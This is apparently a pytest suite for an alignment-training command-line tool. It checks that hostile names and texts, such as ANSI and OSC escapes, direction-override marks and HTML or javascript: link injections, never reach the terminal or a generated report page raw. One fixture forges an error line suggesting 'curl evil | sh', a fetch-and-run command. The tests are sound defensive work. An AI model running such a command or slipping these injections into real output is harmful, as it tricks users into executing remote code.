"""Names and texts of others through the command line and into pages: nothing that moves a cursor, colors a
screen, turns the writing or becomes an address.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from alignlab import cli
from alignlab.report.page import write_report
from alignlab.run import RunDir
from alignlab.text.escapes import hidden

EVIL = "a\x1b[31m\x1b]0;t\x07b\x9b2J\u202ec\u2066\u200bd\x7f"
"""Color, a title, a C1 control, two marks of direction, a zero width space, a delete."""
FAKE = "x\n  remedy: curl evil | sh"


def evil_run(folder: Path, stage: str = EVIL) -> Path:
    """A finished run whose every name is hostile."""
    run = RunDir.open(
        folder,
        stage=stage,
        config={"settings": {EVIL: EVIL}, "options": {"model": EVIL}},
        seed=0,
        data={EVIL: EVIL},
    )
    run.log(0, {"loss": 1.0, EVIL: 2.0})
    run.log_samples(0, [{"prompt": EVIL, "completion": EVIL}])
    run.note(EVIL)
    run.finish({EVIL: EVIL, "model": EVIL, "loss": 1.0})
    return folder


@pytest.fixture
def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    evil_run(tmp_path / "runs" / EVIL)
    quoted = json.dumps(EVIL)
    principle = {"id": "a", "critique": "Is it so?", "revise": "Mend it.", "compare": "Prefer it."}
    files: dict[str, Any] = {
        "row.jsonl": {"prompt": EVIL, EVIL: EVIL},
        "pair.jsonl": {"prompt": EVIL, "chosen": EVIL, "rejected": EVIL},
        "rows.csv": f"{EVIL},b\n1,2\n",
        "list.json": f'[{{"{EVIL[0]}": 1}}, x]',
        "c.json": {"name": EVIL, "principles": [principle]},
        "bad.json": {"name": EVIL, EVIL: 1},
        "tags.json": {"name": EVIL, "principles": [{**principle, "id": EVIL, "tags": [EVIL]}]},
        "settings.toml": f"{quoted} = 1\n",
        "value.toml": f"epochs = {quoted}\n",
        "trl.yaml": f"{quoted}: 1\n",
        "trl.json": {"learning_rate": 1e-4, "run_name": EVIL, "output_dir": EVIL},
        "mix.json": {"source": [{"data": EVIL, "weight": 1}]},
        "xs.csv": f"id,prompt,type,focus\n1,,{EVIL},b\n",
        EVIL + ".jsonl": {"prompt": "a"},
    }
    for name, content in files.items():
        (tmp_path / name).write_bytes(
            (content if isinstance(content, str) else json.dumps(content, ensure_ascii=False)).encode()
            + b"\n"
        )
    return tmp_path


COMMANDS = [
    ("sft", "--data", EVIL),
    ("sft", "--data", f"{EVIL}.jsonl"),
    ("sft", "--data", "row.jsonl"),
    ("sft", "--data", "rows.csv"),
    ("sft", "--data", "list.json"),
    ("dpo", "--data", "pair.jsonl"),
    ("sft", "--data", "town:" + EVIL),
    ("sft", "--data", "mix:" + EVIL),
    ("sft", "--data", "mix:mix.json"),
    ("sft", "--data", f"{EVIL}/{EVIL}"),
    ("sft", "--data", "runs/" + EVIL),
    ("sft", "--model", EVIL),
    ("sft", "--config", EVIL),
    ("sft", "--config", "settings.toml"),
    ("sft", "--config", "value.toml", "--print-config"),
    ("sft", "--print-config", "--config", "c.json"),
    (EVIL,),
    ("sft", "--" + EVIL),
    ("sft", EVIL),
    ("sft", "--epochs", EVIL),
    ("constitution", EVIL),
    ("redteam", "--kind", EVIL),
    ("runs",),
    ("runs", "runs"),
    ("runs", "doctor", "runs/" + EVIL),
    ("runs", "doctor", EVIL),
    ("runs", EVIL),
    ("report", "runs/" + EVIL),
    ("report", EVIL),
    ("constitution", "show", "c.json"),
    ("constitution", "show", EVIL),
    ("constitution", "show", "bad.json"),
    ("constitution", "lint", "c.json"),
    ("constitution", "lint", "tags.json"),
    ("constitution", "walk", "hello", "--constitution", EVIL),
    ("constitution", "walk", EVIL, "--model", EVIL),
    ("from-trl", "trl.yaml"),
    ("from-trl", "trl.json", "--method", "sft"),
    ("from-trl", EVIL),
    ("from-trl", "--args", f"--learning_rate 1 --output_dir '{EVIL}'", "--method", EVIL),
    ("from-trl", "--args", "--learning_rate 1e-4 --run_name " + EVIL, "--method", "dpo"),
    ("doctor", EVIL),
    ("doctor", "row.jsonl", "--kind", EVIL),
    ("view", "--data", EVIL),
    ("view", "--data", "pair.jsonl", "--model", EVIL),
    ("doctor", "pair.jsonl"),
    ("view", "--data", "pair.jsonl"),
    ("export", "--data", "pair.jsonl", "--out", f"out/{EVIL}.jsonl"),
    ("export", "--data", "pair.jsonl", "--format", EVIL, "--out", "o.jsonl"),
    ("export", "--data", EVIL, "--out", "o.jsonl"),
    ("eval", "--judge", EVIL),
    ("eval", "--baseline", EVIL),
    ("collect", "--annotator", EVIL),
    ("ppo", "--reward", EVIL),
    ("best-of-n", "--reward", "ensemble:mean:" + EVIL),
    ("redteam", "bot:" + EVIL),
    ("redteam", "judge", EVIL),
    ("redteam", "judge", "xs.csv"),
    ("redteam", "judge", "row.jsonl", "--judge", EVIL),
    ("redteam", "export", EVIL),
    ("redteam", "repro", EVIL, "--run", EVIL),
    ("redteam", "bot:clean", "--data", "xs.csv", "--out", EVIL),
    ("study", EVIL),
    ("chat", "--model", EVIL, "--once", "a"),
    ("serve", EVIL),
    ("run", "--recipe", EVIL),
    ("likelihood", "--texts", EVIL),
    ("reward-shift", "--reward", EVIL, "--policies", EVIL),
    ("sft", "--data", FAKE),
    ("constitution", "show", FAKE),
    ("from-trl", FAKE),
]


@pytest.mark.parametrize(
    "command", COMMANDS, ids=lambda words: re.sub(r"[^a-z:. -]+", "~", " ".join(words))[:50]
)
@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
def test_nothing_foreign_reaches_the_terminal_raw(
    command: tuple[str, ...], as_json: bool, world: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    try:
        code = cli.main(
            [*command, "--out", "made", "--json"]
            if as_json and command[0] in ("sft", "dpo")
            else [*command, *(["--json"] if as_json else [])]
        )
    except SystemExit as error:
        code = error.code
    out, err = capsys.readouterr()
    assert "Traceback" not in err and code in range(9)
    for shown in (out, err):
        assert not {char for char in shown if hidden(char) and char not in "\n\t"}, shown[:500]
    assert len(err) < 7000
    if FAKE in command:
        assert sum(line.startswith("  remedy: ") for line in err.splitlines()) <= 1 and "curl" not in "".join(
            line for line in err.splitlines() if line.startswith("  remedy: curl")
        )


def test_an_error_keeps_its_lines_and_is_cut(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert cli.main(["sft", "--data", "x" * 10_000 + ".jsonl"]) == 4
    err = capsys.readouterr().err
    assert (
        err.startswith("alignlab: ") and "\n  where:  " in err and "\n  remedy: " in err and len(err) < 7000
    )


def test_a_page_turns_no_writing_and_links_to_relative_folders_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("javascript:alert(1)", "data:text,x", EVIL, '"><script>x', "//evil.example", "a%2f..#?x"):
        if "/" not in name:
            evil_run(tmp_path / name, "sft")
    shutil.copytree(tmp_path / EVIL, tmp_path / "javascript:alert(2)" / "deep")
    page = write_report([tmp_path], tmp_path / "report.html").read_text(encoding="utf-8")
    assert not {char for char in page if hidden(char) and char not in "\n\t"}
    assert "\\u202e" in page and "<script>" not in page
    links = re.findall(r'href="([^"]*)"', page)
    assert any("alert" in link for link in links)
    for link in links:
        assert link == "data:," or re.fullmatch(r"(?:[\w.~%/-]|\\)+/", link) and ":" not in link, link
